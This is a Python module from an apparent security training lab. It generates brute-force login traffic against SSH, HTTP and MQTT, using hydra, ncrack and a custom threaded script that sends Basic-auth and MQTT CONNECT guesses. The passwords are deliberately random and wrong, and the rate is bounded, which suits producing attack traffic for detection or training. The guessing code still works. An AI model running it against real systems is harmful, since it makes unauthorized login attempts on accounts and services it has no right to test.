"""Guessing of passwords: hydra and ncrack against SSH and HTTP, a script against HTTP and MQTT.

Only `trainer.lab.attacks` calls it, after it has made sure of where it runs.
"""

import base64
import contextlib
import random
import socket
import string
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path

from trainer.lab.attack_report import AttackReport
from trainer.lab.mqtt import connect_packet
from trainer.lab.observer import observed
from trainer.lab.plan import Attack, Host, Plan
from trainer.lab.programs import run_bounded

USERS = ("admin", "root", "user", "pi", "support", "guest")
_KEPT = (1, 1, 4, 12)
"""Guesses of one HTTP connection."""


def guesses_of(attack: Attack) -> list[str]:
    """The passwords that are tried: as many as rate and time allow, none of them right."""
    rng = random.Random(attack.seed + 2)
    count = max(2, int(attack.settings["rate"] * attack.seconds))
    letters = string.ascii_lowercase + string.digits
    return ["".join(rng.choices(letters, k=rng.randint(4, 12))) for _ in range(count)]


def brute_force(plan: Plan, host: Host, attack: Attack, report: AttackReport) -> None:
    """Guesses until all passwords have been tried, or the time is over.

    The script keeps to the rate; the programs are as fast as they are, and get as many passwords as
    the rate allows.
    """
    passwords = guesses_of(attack)
    with observed(plan, host, attack, report), tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        (folder / "passwords").write_text("\n".join(passwords) + "\n", encoding="ascii")
        if attack.settings["tool"] == "script":
            _with_script(attack, passwords)
        else:
            command = guesser_command(attack, folder)
            report.said = run_bounded(command, folder, attack.seconds)


def guesser_command(attack: Attack, folder: Path) -> list[str]:
    """How hydra or ncrack is called."""
    rng = random.Random(attack.seed + 3)
    user, service = rng.choice(USERS), attack.settings["service"]
    parallel, rate = int(attack.settings["connections"]), attack.settings["rate"]
    if attack.settings["tool"] == "hydra":
        # -c waits whole seconds between guesses, and takes one connection.
        pace = ["-t", "1", "-c", str(round(1 / rate))] if rate < 1 else ["-t", str(parallel)]
        place = [f"ssh://{attack.victim}:{attack.port}"]
        if service == "http":
            place = ["-s", str(attack.port), attack.victim, "http-get", "/login"]
        return ["hydra", "-I", "-l", user, "-P", f"{folder}/passwords", *pace, *place]
    timing = f"cd={1000 * parallel / rate:.0f}ms,CL={parallel}"
    place = [f"{'ssh' if service == 'ssh' else 'http'}://{attack.victim}:{attack.port}"]
    if service == "http":
        timing += ",path=login"
    return [
        *("ncrack", "--user", user, "-P", f"{folder}/passwords", "-g", timing),
        # It would else leave its state in the home folder of whoever runs it.
        *("--save", f"{folder}/state", "-f", *place),
    ]


def _with_script(attack: Attack, passwords: list[str]) -> None:
    """Some threads that share the passwords."""
    rng = random.Random(attack.seed + 1)
    end = time.monotonic() + attack.seconds
    left = iter(passwords)
    guard = threading.Lock()
    parallel = int(attack.settings["connections"])
    guess = _guess_mqtt if attack.settings["service"] == "mqtt" else _guess_http

    def work(seed: int) -> None:
        own = random.Random(seed)
        while time.monotonic() < end:
            with guard:
                some = [word for _, word in zip(range(own.choice(_KEPT)), left, strict=False)]
            if not some:
                return
            with contextlib.suppress(OSError):
                guess(attack, own, paced(some, own, parallel / attack.settings["rate"], end))

    threads = [
        threading.Thread(target=work, args=(rng.getrandbits(32),), daemon=True)
        for _ in range(parallel)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def paced(words: list[str], rng: random.Random, mean_s: float, end: float) -> Iterator[str]:
    """The words, each followed by a pause, until the time is over."""
    for word in words:
        if (left := end - time.monotonic()) <= 0:
            return
        yield word
        time.sleep(max(0.0, min(mean_s * rng.uniform(0.6, 1.4), left)))


def _guess_http(attack: Attack, rng: random.Random, passwords: Iterator[str]) -> None:
    """Some guesses over one connection (RFC 7617)."""
    with socket.create_connection((attack.victim, attack.port), 5) as connection:
        for password in passwords:
            word = base64.b64encode(f"{rng.choice(USERS)}:{password}".encode()).decode()
            connection.sendall(
                "GET /login HTTP/1.1\r\nHost: lab.example.net\r\n"
                f"Authorization: Basic {word}\r\n\r\n".encode()
            )
            if not connection.recv(4096):
                return


def _guess_mqtt(attack: Attack, rng: random.Random, passwords: Iterator[str]) -> None:
    """A connection for each guess: the broker closes it (MQTT 3.1.1, section 3.2.2.3)."""
    for password in passwords:
        with socket.create_connection((attack.victim, attack.port), 5) as connection:
            name = f"client-{rng.getrandbits(24):x}"
            connection.sendall(connect_packet(name, 60, rng.choice(USERS), password))
            connection.recv(16)
